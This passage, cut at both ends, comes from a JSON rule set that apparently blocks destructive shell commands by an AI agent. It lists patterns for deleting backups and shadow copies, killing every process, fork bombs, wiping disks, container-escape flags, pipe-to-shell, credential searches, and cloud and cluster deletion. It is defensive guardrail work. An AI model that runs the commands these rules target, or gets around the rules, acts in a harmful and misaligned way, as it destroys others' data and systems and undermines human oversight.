"*AKIA*","*ghp_*"]}},{"program":["trufflehog","gitleaks"],"names":["root","home"]},{"program":["tar","zip","7z","rsync","scp","bsdtar"],"reads":["root","home"]}\
,{"program":["cp"],"recursive":true,"reads":["root","home"]},{"program":["find","fd","locate"],"names":["credentials"],"args":{"any":["/","~","~/*","/home*","/r\
oot*","/etc*","/var*","/Users*","/opt*"],"none":["~/*/*","/home/*/*","/Users/*/*"]}},{"program":["find","fd"],"names":["credentials"],"args":{"any":["/","~","~/\
","/home","/home/","/Users","/Users/","/root","/etc","/var","/opt","*/..*"]}},{"program":["find","fd"],"names":["credentials"],"args":{"any":["~/.*","/home/*/.*\
","/Users/*/.*"]}}]},{"code":"destructive_operation_blocked","id":"destroy-backup","category":"backups","severity":"severe","explanation":"This deletes backups \
or snapshots, which is what others fall back on. Look with --dry-run; the person who owns them deletes them.","match":[{"program":["borg","attic"],"subcommand":\
["delete","prune","rdelete","repo-delete"]},{"program":["borgmatic"],"subcommand":["prune","delete","repo-delete"]},{"program":["restic","rustic"],"subcommand":\
["forget","prune"]},{"program":["restic","rustic"],"subcommand":["rewrite"],"flags":{"any":["--forget"]}},{"program":["duplicity"],"args":{"any":["remove-older-\
than","remove-all-but-n-full","remove-all-inc-of-but-n-full","cleanup"]},"flags":{"any":["--force"]}},{"program":["duplicacy"],"subcommand":["prune"]},{"program\
":["kopia"],"subcommand":["snapshot delete","snapshot expire"],"flags":{"any":["--delete"]}},{"program":["tarsnap"],"flags":{"any":["-d","--nuke"]}},{"program":\
["bup"],"subcommand":["rm","gc","prune-older"]},{"program":["rdiff-backup"],"flags":{"any":["--remove-older-than"]}},{"program":["rdiff-backup"],"args":{"any":[\
"remove"]}},{"program":["proxmox-backup-client"],"subcommand":["snapshot forget","prune"]},{"program":["wal-g"],"subcommand":["delete"],"flags":{"any":["--confi\
rm"]}},{"program":["wal-e"],"subcommand":["delete"],"flags":{"any":["--confirm"]}},{"program":["pgbackrest"],"subcommand":["expire","stanza-delete"]},{"program"\
:["pgbackrest"],"args":{"any":["expire","stanza-delete"]}},{"program":["barman"],"subcommand":["delete"]},{"program":["pbm"],"subcommand":["delete-backup","dele\
te-pitr","cleanup"]},{"program":["velero"],"subcommand":["backup delete","delete backup","backup-location delete"]},{"program":["snapper"],"args":{"any":["delet\
e","rm","remove"]}},{"program":["timeshift"],"flags":{"any":["--delete","--delete-all"]}},{"program":["tmutil"],"subcommand":["delete","deletelocalsnapshots","t\
hinlocalsnapshots","removedestination"]},{"program":["vssadmin"],"subcommand":["delete shadows","Delete Shadows","resize shadowstorage"]},{"program":["wbadmin"]\
,"subcommand":["delete *","disable backup"]},{"program":["wmic"],"subcommand":["shadowcopy delete"]},{"program":["virsh"],"subcommand":["snapshot-delete","check\
point-delete"]},{"program":["qm","pct"],"subcommand":["delsnapshot"]},{"program":["nodetool"],"subcommand":["clearsnapshot"]},{"program":["aws"],"subcommand":["\
backup delete-*","* delete-*snapshot*","* delete-*backup*"]},{"program":["gcloud"],"subcommand":["* snapshots delete","* backups delete","* * snapshots delete",\
"* * backups delete"]},{"program":["az"],"subcommand":["snapshot delete","backup * delete","backup protection disable","* * *backup delete"]},{"program":["herok\
u"],"subcommand":["pg:backups:delete"]},{"program":["doctl"],"subcommand":["compute snapshot delete","databases backups delete"]},{"program":["openstack"],"subc\
ommand":["volume snapshot delete","volume backup delete"]},{"program":["kubectl","oc"],"subcommand":["delete volumesnapshot*","delete backup*","delete vs"]}]},{\
"code":"destructive_operation_blocked","id":"kill-everything","category":"processes","severity":"catastrophic","explanation":"This ends all processes, or the fi\
rst one, on which all others rest. End the process that you started, by its id.","match":[{"program":["kill"],"args":{"any":["-1","1"]},"flags":{"none":["-0","-\
l","-L","-HUP","-SIGHUP","-USR1","-USR2","-CONT","-WINCH"]},"line":{"none":["docker *","podman *","kubectl *","nerdctl *"]}},{"program":["kill"],"flags":{"all":\
["-9","-1"]}},{"program":["kill"],"flags":{"all":["-KILL","-1"]}},{"program":["kill"],"flags":{"all":["-SIGKILL","-1"]}},{"program":["kill"],"flags":{"all":["-1\
5","-1"]}},{"program":["kill"],"flags":{"all":["-TERM","-1"]}},{"program":["kill"],"flags":{"all":["-1","-s"]}},{"program":["kill"],"flags":{"all":["-1"]},"args\
":{"at_most":0}},{"program":["killall5"]},{"program":["pm2"],"subcommand":["delete all","stop all","kill"]},{"program":["end-process"],"args":{"any":["\\\\*"]}},{\
"program":["loginctl"],"subcommand":["terminate-*","kill-*"]},{"program":["kill"],"args":{"any":["*\\\\**","/proc/*"]}},{"program":["kill"],"args":{"any":["*\\ufff\
c*"]},"line":{"any":["pgrep .","pgrep -? .","pgrep -f ","pgrep ","pgrep -* .","pgrep .\\\\*","pgrep -* .\\\\*","pgrep ^","pgrep -* ^","pgrep -v *","pgrep -u root","\
pgrep -U root","pgrep -U 0","pgrep -u \\ufffc","pgrep -U \\ufffc","ls /proc","ls /proc/","ls -* /proc","ls -* /proc/","ls /proc/[*","ls -* /proc/[*","ls /proc/\\\\*\
","ls -* /proc/\\\\*","find /proc*"]}},{"program":["kill"],"via":["xargs","parallel"],"line":{"any":["pgrep .","pgrep -? .","pgrep -f ","pgrep ","pgrep -* .","pgr\
ep .\\\\*","pgrep -* .\\\\*","pgrep ^","pgrep -* ^","pgrep -v *","pgrep -u root","pgrep -U root","pgrep -U 0","pgrep -u \\ufffc","pgrep -U \\ufffc","ls /proc","ls /pr\
oc/","ls -* /proc","ls -* /proc/","ls /proc/[*","ls -* /proc/[*","ls /proc/\\\\*","ls -* /proc/\\\\*","find /proc*"]}},{"program":["pkill","killall","skill","slay"]\
,"flags":{"any":["-u","-U","--euid","--uid","--user"]},"args":{"at_most":0}},{"program":["pkill"],"args":{"any":[".",".\\\\*","","^","^.\\\\*",".+","[a-z]","/"]}},{\
"program":["killall"],"args":{"any":["-r"]}},{"program":["killall"],"flags":{"any":["-r","--regexp"]},"args":{"any":[".",".*"]}}]},{"code":"destructive_operatio\
n_blocked","id":"kill-service","category":"processes","severity":"severe","explanation":"This ends a service that others rely on. End the process that you start\
ed, by its id.","trust":4,"match":[{"program":["end-process"],"args":{"any":["systemd*","init","sshd","ssh","dockerd","docker","containerd","kubelet","cron","cr\
ond","rsyslogd","auditd","NetworkManager","dbus*","Xorg","gnome-shell","explorer.exe","Finder","loginwindow","launchd","WindowServer","mysqld","mariadbd","postg\
res*","nginx","apache2","httpd","mongod","redis-server","udevd","login","firefox","chrome","google-chrome","supervisord","php-fpm","haproxy","named","ntpd","pol\
kitd"]}},{"program":["systemctl","rc-service","initctl"],"subcommand":["stop","kill","mask","disable","isolate","suspend","hibernate"]},{"program":["rc-service"\
],"subcommand":["* stop","* zap"]},{"program":["Stop-Service"]},{"program":["service"],"args":{"any":["stop"]}},{"program":["launchctl"],"subcommand":["unload",\
"bootout","remove","kill"]},{"program":["tmux","screen"],"subcommand":["kill-server"]},{"program":["tmux"],"subcommand":["kill-session"],"flags":{"any":["-a"]}}\
,{"program":["sc","net"],"subcommand":["stop","delete"]}]},{"code":"destructive_operation_blocked","id":"kill-unnamed","category":"processes","severity":"severe\
","explanation":"Nobody can say before which processes this ends. End the process that you started, by its id.","trust":3,"match":[{"program":["pkill","killall"\
],"args":{"any":["\\ufffc"]},"language":["python","javascript","perl","ruby","php"]},{"program":["pkill","killall"],"language":["python","javascript","perl","rub\
y","php"],"level":"strict"},{"program":["pkill"],"via":["pwsh","powershell","powershell.exe"],"level":"strict"},{"program":["kill"],"args":{"any":["*\\ufffc*"]},\
"via":["python*","node","deno","bun","perl","ruby","php"],"line":{"any":["pgrep *","pidof *","lsof *","fuser *","netstat *","ss *"],"none":["*:3000*","*:3001*",\
"*:4200*","*:5000*","*:5173*","*:8000*","*:8080*","*:8081*","*:9229*"]},"level":"strict"}]},{"code":"destructive_operation_blocked","id":"turn-off-machine","cat\
egory":"processes","severity":"catastrophic","explanation":"This turns the machine off or starts it anew, for everybody on it.","match":[{"program":["shutdown",\
"reboot","halt","poweroff","Stop-Computer","Restart-Computer"],"flags":{"none":["--help","-c","--version","--show"]}},{"program":["init","telinit"],"args":{"any\
":["0","6","1","s","S"]}},{"program":["systemctl","loginctl"],"subcommand":["reboot","poweroff","halt","rescue","emergency","kexec","soft-reboot"]}]},{"code":"d\
estructive_operation_blocked","id":"fork-bomb","category":"fork-bombs","severity":"catastrophic","explanation":"This starts processes without end until the mach\
ine stands still.","match":[{"program":["fork-bomb"]}]},{"code":"destructive_operation_blocked","id":"fork-in-code","category":"fork-bombs","severity":"severe",\
"explanation":"Nobody can say before it runs how many processes this code starts. Start them by the shell or a pool.","trust":3,"match":[{"program":["fork"],"la\
nguage":["python","perl","ruby","php"]}]},{"code":"destructive_operation_blocked","id":"fill-disk-or-memory","category":"fork-bombs","severity":"severe","explan\
ation":"This writes or reads without end until disk or memory are full. Say how much.","trust":4,"match":[{"program":["yes"],"redirected":true,"writes":["root",\
"system","local-system","home","personal","outside","workspace","source","disposable","temp","data","unknown"],"flags":{"none":["--help"]}},{"program":["cat","d\
d"],"reads":["endless"],"redirected":true,"language":["shell"],"args":{"none":["count=*"]}},{"program":["tail","sort","tac","sponge","shuf","column"],"reads":["\
endless"]},{"program":["tail","sort","tac","sponge","shuf","column"],"from":{"program":["cat","tr","base64"],"reads":["endless"],"without":["head","timeout","cu\
t","sed"]}},{"program":["tail","sort","tac","sponge","shuf","column"],"from":{"program":["dd"],"reads":["endless"],"without":["head","timeout","cut","sed"],"ope\
rands_at_most":1}},{"program":["tail","sort","tac","sponge","shuf","column"],"from":{"program":["yes"],"without":["head","timeout","sed","awk"]}},{"program":["d\
d"],"reads":["nowhere"],"writes":["workspace","root","home"]},{"program":["fallocate"],"names":["workspace","root","home"]},{"program":["fallocate","truncate"],\
"options":{"-l":["*T","*TB","*TiB","*P","*E"]}},{"program":["fallocate","truncate"],"options":{"-s":["*T","*TB","*TiB","*P","*E"]}}]},{"code":"destructive_opera\
tion_blocked","id":"overwrite-disk","category":"disks","severity":"catastrophic","explanation":"This writes to a disk below its file system; everything on it is\
 lost. Use a file in the workspace as an image.","match":[{"writes":["device"]},{"program":["shred","wipe","blkdiscard"],"names":["device"]},{"program":["badblo\
cks"],"names":["device"],"flags":{"any":["-w"]}},{"program":["wipefs"],"names":["device"],"flags":{"any":["-a","--all","-o","--offset"],"none":["-n","--no-act"]\
}},{"program":["hdparm"],"names":["device"],"flags":{"any":["--security-erase","--security-erase-enhanced","--security-set-pass","--write-sector","--make-bad-se\
ctor","--repair-sector","--trim-sector-ranges","--fwdownload","--dco-restore"]}},{"program":["mkfs","mkfs.*","mkswap","newfs*","mkfs_*"],"names":["device"],"fla\
gs":{"none":["--help","-V","-h","--version"]}},{"program":["Format-Volume","Clear-Disk","Initialize-Disk","Remove-Partition","nwipe"]},{"program":["bcachefs"],"\
subcommand":["format"]},{"program":["asr"],"flags":{"any":["--erase","-erase"]}},{"program":["systemd-cryptenroll"],"flags":{"any":["--wipe-slot"]}},{"program":\
["mke2fs"],"names":["device"],"flags":{"none":["--help","-V","-h","-n"]}},{"program":["format","format.com"],"args":{"any":["*:","*:/","*:\\\\\\\\","/dev/*"]}},{"pr\
ogram":["nvme"],"subcommand":["format","sanitize"]}]},{"code":"destructive_operation_blocked","id":"repair-disk","category":"disks","severity":"severe","explana\
tion":"This changes a file system, or makes one, where others may have data. Use a file in the workspace.","trust":4,"match":[{"program":["debugfs"],"names":["d\
evice"],"flags":{"any":["-w"]}},{"program":["tune2fs"],"names":["device"],"flags":{"none":["-l"]}},{"program":["resize2fs"],"names":["device"],"flags":{"none":[\
"-P"]}},{"program":["e2fsck","fsck*","xfs_repair"],"names":["device"],"flags":{"none":["-n","-N","-V","--version"]}},{"program":["mkfs","mkfs.*","mke2fs","mkswa\
p","newfs","mkfs_*"],"names":["system","unknown","home"]},{"program":["parted","fdisk","cfdisk","gdisk","sfdisk","sgdisk"],"names":["unknown"],"flags":{"none":[\
"-l","--list","-J","--json","-d","--dump","-p","--print","-s","-x","--verify","-V"]},"args":{"none":["print"]}},{"program":["mdadm"],"flags":{"any":["--stop","-\
S"]}}]},{"code":"destructive_operation_blocked","id":"change-partitions","category":"disks","severity":"catastrophic","explanation":"This changes partitions or \
volumes; what is on them may be lost.","match":[{"program":["diskpart"]},{"program":["parted"],"names":["device"],"flags":{"none":["-l","--list","-h","--help","\
-v","--version"]},"args":{"none":["print"]}},{"program":["fdisk","cfdisk","gdisk"],"names":["device"],"flags":{"none":["-l","--list","-x","--list-details","-s",\
"-h","--help","-v","-V","--version"]},"args":{"none":["print"]}},{"program":["sfdisk"],"names":["device"],"flags":{"none":["-l","--list","-d","--dump","-J","--j\
son","-F","--list-free","-s","--show-size","-g","--show-geometry","-V","--verify","-n","--no-act","-h","--help","-v","--version"]}},{"program":["sgdisk"],"names\
":["device"],"flags":{"none":["-p","--print","-i","--info","-v","--verify","-V","--version","-h","--help"]}},{"program":["lvremove","vgremove","pvremove","lvred\
uce","vgreduce","pvcreate"],"flags":{"none":["-t","--test","-h","--help","--version"]}},{"program":["lvm"],"subcommand":["lvremove","vgremove","pvremove"],"flag\
s":{"none":["-t","--test"]}},{"program":["zpool","zfs"],"subcommand":["destroy","labelclear","rollback"]},{"program":["btrfs"],"subcommand":["subvolume delete",\
"device delete","device remove"]},{"program":["mdadm"],"flags":{"any":["--zero-superblock","--fail","--remove","-f","-r"]}},{"program":["cryptsetup"],"args":{"a\
ny":["luksFormat","erase","luksErase","luksRemoveKey","luksKillSlot","reencrypt"],"none":["*.img","*.luks"]}},{"program":["diskutil"],"subcommand":["erase*","pa\
rtitionDisk","secureErase","zeroDisk","apfs delete*","reformat","unmountDisk"]},{"program":["grub-install"],"args":{"at_least":1}},{"program":["efibootmgr"],"fl\
ags":{"any":["-B","--delete-bootnum","-c","--create","-o","--bootorder"]}},{"program":["dmsetup"],"subcommand":["remove*","wipe_table","create","load","reload",\
"suspend","rename","message"]}]},{"code":"destructive_operation_blocked","id":"change-mounts","category":"disks","severity":"severe","explanation":"This changes\
 what is mounted for everybody on the machine.","trust":4,"match":[{"program":["umount"],"flags":{"any":["-a","--all","-l","--lazy","-f","--force","-R"]}},{"pro\
gram":["umount","mount"],"names":["root","system","home","device","workspace"]},{"program":["mount"],"flags":{"any":["--bind","--rbind","--move","-M","-B","-R"]\
}},{"program":["mount"],"options":{"-o":["*remount*","*bind*"]}},{"program":["swapoff"],"flags":{"any":["-a","--all"]}},{"program":["swapoff","swapon"],"args":{\
"at_least":1}}]},{"code":"destructive_operation_blocked","id":"prune-containers","category":"containers","severity":"severe","explanation":"This removes contain\
ers, images, or volumes that others may need. Remove yours by name.","trust":3,"spares":["own-act"],"match":[{"program":["docker","podman","nerdctl"],"subcomman\
d":["system prune","volume prune","container prune","network prune","pod prune","system reset","swarm leave","machine rm"],"flags":{"none":["--filter"]}},{"prog\
ram":["docker","podman","nerdctl"],"subcommand":["image prune"],"flags":{"any":["-a","--all"]}},{"program":["docker","podman","nerdctl"],"subcommand":["volume r\
m","volume remove","stack rm","stack remove","service rm","secret rm","config rm","node rm","context rm"]},{"program":["docker","podman","nerdctl"],"subcommand"\
:["rm","rmi","kill","stop","container rm","container kill","container stop","image rm","container remove"],"args":{"any":["\\ufffc*"]},"line":{"none":["* --filte\
r *","* -f name*","* --filter=*","* -f status*","* -f label*","* -f ancestor*","docker run *","docker create *","podman run *"]}},{"program":["docker","podman",\
"nerdctl"],"subcommand":["rm","rmi","kill","stop","container rm","container kill","container stop","image rm","container remove"],"args":{"any":["\\ufffc*"]},"li\
ne":{"any":["* ps","* ps *","* ls","* ls *","ls *","* list *","* images","* images *","* stats *","* inspect *","* df *","* events *","* top *"],"none":["* --fi\
lter *","* -f name*","* --filter=*","* -f status*","* -f label*","* -f ancestor*"]}},{"program":["docker","podman","nerdctl"],"subcommand":["rm","rmi","kill","s\
top","container rm","container stop","image rm"],"flags":{"any":["-a","--all"]}},{"program":["docker","podman","nerdctl"],"subcommand":["compose down","compose \
rm"],"flags":{"any":["-v","--volumes","--rmi"]},"level":"strict"},{"program":["docker-compose","podman-compose"],"subcommand":["down","rm"],"flags":{"any":["-v"\
,"--volumes","--rmi"]},"level":"strict"},{"program":["compose-elsewhere"]},{"program":["crictl"],"subcommand":["rmi","rm","rmp"],"flags":{"any":["--prune","-a",\
"--all","-f"]}},{"program":["ctr"],"subcommand":["* rm","* delete","images rm"]}]},{"code":"destructive_operation_blocked","id":"container-escape","category":"c\
ontainers","severity":"severe","explanation":"This gives a container power over the host. Mount the folder that it needs, without extra rights.","trust":4,"matc\
h":[{"program":["docker","podman","nerdctl"],"subcommand":["run","create","container run","exec"],"flags":{"any":["--privileged"]}},{"program":["docker","podman\
","nerdctl"],"subcommand":["run","create","container run"],"options":{"-v":["/:*","/etc*","/root*","/home:*","/var/run/docker.sock*","/run/docker.sock*","/var:*\
","/usr:*","/boot*","/dev:*","/proc*","/sys*","~:*","~/.ssh*","~/.aws*","*containerd.sock*","/var/lib/docker*","*docker.sock:*"]}},{"program":["docker","podman"\
,"nerdctl"],"subcommand":["run","create","container run"],"options":{"--volume":["/:*","/etc*","/root*","/home:*","/var/run/docker.sock*","/run/docker.sock*","/\
var:*","/usr:*","/boot*","/dev:*","/proc*","/sys*","~:*","~/.ssh*","~/.aws*","*containerd.sock*","/var/lib/docker*","*docker.sock:*"]}},{"program":["docker","po\
dman","nerdctl"],"subcommand":["run","create"],"options":{"--mount":["*source=/,*","*src=/,*","*source=/etc*","*src=/etc*","*docker.sock*","*src=/root*","*sourc\
e=/root*"]}},{"program":["docker","podman","nerdctl"],"subcommand":["run","create"],"options":{"--pid":["host"]}},{"program":["docker","podman","nerdctl"],"subc\
ommand":["run","create"],"options":{"--ipc":["host"]}},{"program":["docker","podman","nerdctl"],"subcommand":["run","create"],"options":{"--userns":["host"]}},{\
"program":["docker","podman","nerdctl"],"subcommand":["run","create"],"options":{"--uts":["host"]}},{"program":["docker","podman","nerdctl"],"subcommand":["run"\
,"create"],"options":{"--cgroupns":["host"]}},{"program":["docker","podman","nerdctl"],"subcommand":["run","create"],"options":{"--cap-add":["ALL","all","SYS_AD\
MIN","CAP_SYS_ADMIN","SYS_PTRACE","SYS_MODULE","DAC_READ_SEARCH"]}},{"program":["docker","podman","nerdctl"],"subcommand":["run","create"],"options":{"--device"\
:["/dev/sd*","/dev/nvme*","/dev/mem*","/dev/vd*"]}},{"program":["docker","podman","nerdctl"],"subcommand":["run","create"],"options":{"--security-opt":["*unconf\
ined*","*disable*"]}},{"program":["curl","socat","nc"],"options":{"--unix-socket":["*docker.sock","*containerd.sock","*podman.sock"]}}]},{"code":"destructive_op\
eration_blocked","id":"cluster-delete","category":"containers","severity":"severe","explanation":"This deletes or stops what runs in a cluster. Ask the person w\
ho runs it.","trust":4,"spares":["own-act"],"match":[{"program":["kubectl","oc"],"subcommand":["patch"],"options":{"-p":["*finalizers*null*","*finalizers*[]*"]}\
},{"program":["kubectl","oc"],"subcommand":["patch"],"options":{"--patch":["*finalizers*null*","*finalizers*[]*"]}},{"program":["kubectl","oc","microk8s.kubectl\
","k3s kubectl"],"subcommand":["delete","drain","cordon","taint"]},{"program":["kubectl","oc"],"subcommand":["replace"],"flags":{"any":["--force"]}},{"program":\
["kubectl","oc"],"subcommand":["scale"],"options":{"--replicas":["0"]}},{"program":["kubectl","oc"],"subcommand":["apply"],"flags":{"any":["--prune"]}},{"progra\
m":["kubectl","oc"],"subcommand":["create clusterrolebinding","create rolebinding","adm policy *","adm *"]},{"program":["kubectl","oc"],"subcommand":["patch"],"\
options":{"-p":["*finalizers*","*cluster-admin*","*privileged*"]}},{"program":["kubectl"],"subcommand":["run"],"flags":{"any":["--privileged"]}},{"program":["ku\
bectl","oc"],"subcommand":["run","debug"],"options":{"--overrides":["*hostPID*","*privileged*","*hostPath*"]}},{"program":["kubectl","oc"],"subcommand":["debug \
node/*"]},{"program":["helm"],"subcommand":["uninstall","delete","del","un"]},{"program":["kubeadm","k3s-uninstall.sh","rke2-uninstall.sh"],"subcommand":["reset\
"]},{"program":["k3s-uninstall.sh","rke2-uninstall.sh"]},{"program":["minikube"],"subcommand":["delete"],"flags":{"any":["--all","--purge"]}},{"program":["kind"\
,"k3d"],"subcommand":["delete clusters","cluster delete"],"flags":{"any":["--all","-a","-A"]}},{"program":["kops","eksctl","rosa","talosctl"],"subcommand":["del\
ete","delete *","reset"]},{"program":["nomad"],"subcommand":["job stop","stop","system gc","namespace delete","volume delete"]},{"program":["argocd"],"subcomman\
d":["app delete","cluster rm","proj delete"]},{"program":["flux"],"subcommand":["uninstall","delete"]},{"program":["istioctl"],"subcommand":["uninstall"]},{"pro\
gram":["velero"],"subcommand":["schedule delete"]},{"program":["etcdctl"],"subcommand":["del","defrag","member remove","snapshot restore","user delete"]},{"prog\
ram":["consul"],"subcommand":["kv delete","leave","force-leave"]},{"program":["k9s"],"flags":{"any":["--write"]}}]},{"code":"destructive_operation_blocked","id"\
:"local-machine-delete","category":"containers","severity":"severe","explanation":"This deletes a machine or a cluster on this machine, with what is in it. Make\
 one of your own and delete that.","trust":4,"level":"strict","spares":["own-act"],"match":[{"program":["kind","minikube","k3d","limactl","colima","lando","ddev\
","distrobox","toolbox","orb","multipass"],"subcommand":["delete","destroy","rm","remove","* delete","* rm","* destroy","delete clusters"]},{"program":["vagrant\
"],"subcommand":["destroy"]}]},{"code":"destructive_operation_blocked","id":"cloud-delete","category":"clouds","severity":"severe","explanation":"This deletes o\
r stops resources of a cloud account. Ask the person who runs it.","trust":4,"spares":["own-data","own-act"],"match":[{"program":["cloud-sdk"]},{"program":["cur\
l","http"],"line":{"any":["*script=*enkins*tems*.delete()*","*script=*enkins*tems*.doDelete()*"]}},{"program":["aws"],"subcommand":["s3 rb"]},{"program":["aws"]\
,"subcommand":["s3 rm","s3 mv"],"recursive":true},{"program":["aws"],"subcommand":["s3 rm"]},{"program":["aws"],"subcommand":["s3 sync"],"flags":{"any":["--dele\
te"]}},{"program":["aws"],"subcommand":["* delete-*","* terminate-*","* deregister-*","* batch-delete-*","* purge-*","* schedule-key-deletion","* remove-*","* s\
top-*","* disable-*","* release-*","* reboot-*","* destroy-*","* revoke-*","* leave-organization","* close-account","* unsubscribe","* cancel-*","* detach-*","*\
 unregister-*","* batch-write-item"]},{"program":["gsutil"],"subcommand":["rm","rb"]},{"program":["gsutil"],"subcommand":["rsync"],"flags":{"any":["-d"]}},{"pro\
gram":["aws"],"options":{"--change-batch":["*DELETE*"]}},{"program":["azcopy"],"subcommand":["sync"],"options":{"--delete-destination":["true"]}},{"program":["a\
zcopy"],"subcommand":["sync"],"flags":{"any":["--delete-destination"]}},{"program":["gcloud","bq"],"args":{"any":["delete","destroy","reset-windows-password","p\
urge"]}},{"program":["gcloud"],"subcommand":["storage rm","storage buckets delete","compute instances stop","compute instances reset"]},{"program":["bq"],"subco\
mmand":["rm"]},{"program":["az"],"args":{"any":["delete","purge","delete-batch","deallocate","delete-many"]}},{"program":["wrangler"],"subcommand":["d1 execute"\
],"flags":{"none":["--local"]}},{"program":["heroku"],"subcommand":["ps:stop"]},{"program":["rclone"],"subcommand":["delete","purge","sync","deletefile","cleanu\
p","rmdirs","move"]},{"program":["mc"],"subcommand":["rb","rm","mirror"],"flags":{"any":["--force","--recursive","-r","--remove","--dangerous"]}},{"program":["s\
3cmd","s5cmd","b2","azcopy","swift"],"subcommand":["rb","del","rm","delete*","remove","bucket delete","file delete","key delete"]},{"program":["dvc"],"subcomman\
d":["gc"],"flags":{"any":["-c","--cloud"]}},{"program":["dvc"],"subcommand":["destroy"]},{"program":["modal"],"subcommand":["app stop"]},{"program":["heroku"],"\
subcommand":["pg:psql"],"args":{"any":["*DROP *","*drop *","*TRUNCATE *","*truncate *"]}},{"program":["docker","podman"],"subcommand":["run"],"args":{"any":["*/\
aws-cli","*/aws-cli:*","*/cloud-sdk*","*/google-cloud-cli*","*/azure-cli*"]},"line":{"any":["* s3 rb *","* s3 rm *--recursive*","* delete-*","* terminate-*","* \
delete *"]}}]},{"code":"destructive_operation_blocked","id":"cloud-rights","category":"clouds","severity":"severe","explanation":"This gives rights in a cloud a\
ccount, or opens something of it to everybody. Ask the person who runs it.","trust":4,"match":[{"program":["aws"],"subcommand":["iam create-user","iam create-lo\
gin-profile","iam attach-*","iam put-*","iam add-user-to-group","iam update-*","iam create-policy*","iam create-role","* authorize-security-group-ingress","s3ap\
i put-bucket-policy","s3api put-bucket-acl","s3api put-object-acl","s3api put-public-access-block","lambda add-permission","kms put-key-policy","* modify-image-\
attribute","* modify-snapshot-attribute","ec2 create-key-pair"]},{"program":["aws"],"subcommand":["s3 cp","s3 sync","s3 mv"],"options":{"--acl":["public-*"]}},{\
"program":["aws"],"flags":{"any":["--acl"]},"args":{"any":["public-read","public-read-write"]}},{"program":["gcloud"],"args":{"any":["add-iam-policy-binding","s\
et-iam-policy","remove-iam-policy-binding"]}},{"program":["gsutil"],"subcommand":["iam ch","acl ch","acl set","iam set","defacl ch","defacl set"]},{"program":["\
az"],"subcommand":["role assignment create","ad user create","ad app credential reset"]}]},{"code":"destructive_operation_blocked","id":"infrastructure-destroy"\
,"category":"clouds","severity":"severe","explanation":"This destroys or changes real infrastructure without anybody looking at it. Make a plan and show it.","t\
rust":4,"match":[{"program":["terraform","tofu","terragrunt"],"subcommand":["destroy","run-all destroy","state rm","workspace delete","force-unlock","taint","st\
ate push","destroy-all"]},{"program":["terraform","tofu","terragrunt"],"subcommand":["apply","run-all apply"],"flags":{"any":["-auto-approve","--auto-approve","\
-destroy","--destroy","--terragrunt-non-interactive"]}},{"program":["terraform","tofu","terragrunt"],"subcommand":["apply"],"line":{"any":["terraform *plan*-des\
troy*","tofu *plan*-destroy*","terragrunt *plan*-destroy*"]}},{"program":["pulumi"],"subcommand":["destroy","stack rm","state delete","down"]},{"program":["pulu\
mi"],"subcommand":["up","update"],"flags":{"any":["-y","--yes","-f","--skip-preview"]}},{"program":["cdk","sam","serverless","sls","sst","eb","copilot","amplify\
","kamal","cdktf","up","chalice","zappa","terraform-destroy"],"subcommand":["destroy","delete","remove","terminate","undeploy","app delete","env delete","svc de\
lete"]},{"program":["vagrant"],"subcommand":["destroy"],"flags":{"any":["-f","--force"]}},{"program":["ansible"],"options":{"-a":["*rm -*","*shutdown*","*reboot\
*","*mkfs*","*dd if*","*state=absent*","*curl*|*sh*","*systemctl stop*","*state=stopped*","*state=terminated*","*state=deleted*"]}},{"program":["salt","salt-cal\
l","salt-ssh"],"args":{"any":["*rm -*","*shutdown*","*reboot*","*mkfs*","*dd if*","*systemctl stop*"]}},{"program":["virsh"],"subcommand":["destroy","undefine",\
"vol-delete","pool-delete"]},{"program":["VBoxManage","vboxmanage"],"subcommand":["unregistervm"]},{"program":["qm","pct"],"subcommand":["destroy"]},{"program":\
["wsl","wsl.exe"],"flags":{"any":["--unregister"]}},{"program":["vim-cmd"],"subcommand":["*/destroy","*/unregister","*/power.off","*/*.remove*"]},{"program":["e\
sxcli"],"subcommand":["vm process kill","storage * remove","system shutdown *"]},{"program":["lxc-destroy","lxc-snapshot"],"flags":{"any":["-n","--name","-d","-\
-destroy","-f","--force"]}},{"program":["lxc-destroy"],"args":{"at_least":1}},{"program":["quickemu"],"flags":{"any":["--delete-vm","--delete-disk"]}}]},{"code"\
:"destructive_operation_blocked","id":"service-delete","category":"clouds","severity":"severe","explanation":"This deletes what a remote service keeps, for ever\
ybody who uses it. Ask the person who owns it.","trust":4,"spares":["own-data","own-act"],"match":[{"service_verb":"destroys"},{"program":["curl","http","https"\
,"wget","xh","xhs"],"options":{"-X":["PURGE"]}},{"program":["curl","http","https","wget","xh","xhs"],"options":{"--request":["PURGE"]}},{"program":["curl","http\
","https","wget","xh","xhs"],"args":{"any":["*mutation*{*delete*(*","*mutation*{*Delete(*","*mutation*{*destroy*(*","*mutation*{*Destroy(*","*mutation*{*remove*\
(*"]},"to":"remote"},{"program":["curl","http","https","wget","xh","xhs"],"options":{"-d":["*mutation*{*delete*(*","*mutation*{*Delete(*","*mutation*{*destroy*(\
*","*mutation*{*Destroy(*","*mutation*{*remove*(*"]},"to":"remote"},{"program":["curl","http","https","wget","xh","xhs"],"options":{"--data":["*mutation*{*delet\
e*(*","*mutation*{*Delete(*","*mutation*{*destroy*(*","*mutation*{*Destroy(*","*mutation*{*remove*(*"]},"to":"remote"},{"program":["curl","http","https","wget",\
"xh","xhs"],"options":{"--data-raw":["*mutation*{*delete*(*","*mutation*{*Delete(*","*mutation*{*destroy*(*","*mutation*{*Destroy(*","*mutation*{*remove*(*"]},"\
to":"remote"},{"program":["fly","flyctl"],"subcommand":["scale count 0"]},{"program":["heroku"],"subcommand":["ps:scale *=0"]},{"program":["curl","http","https"\
,"wget","xh","xhs"],"args":{"any":["*/scriptText","*/script"]},"line":{"any":["*script=*.delete()*","*script=*.doDelete()*","*script=*.doKill()*","*script=*.doS\
afeRestart*","*script=*.deleteDir()*","*script=*.deleteRecursive()*","*script=*.doWipeOutWorkspace()*","*script=*.execute()*"]}},{"program":["nsupdate","knsupda\
te"],"flags":{"none":["-h","-V","--help","--version"]}},{"program":["cli4"],"flags":{"any":["--delete","-X"]}},{"program":["cli4"],"flags":{"any":["--delete","-\
X"]}},{"program":["Remove-Az*","Remove-EC2*","Remove-S3*","Remove-AD*","Remove-Mg*","Remove-VM","Remove-Service"]},{"program":["curl","http","https","wget","xh"\
,"xhs"],"options":{"--data":["*<delete>*"]},"args":{"any":["*/update*"],"none":["localhost:*","127.0.0.1:*","*@localhost:*","*@127.0.0.1:*","*://localhost*","*:\
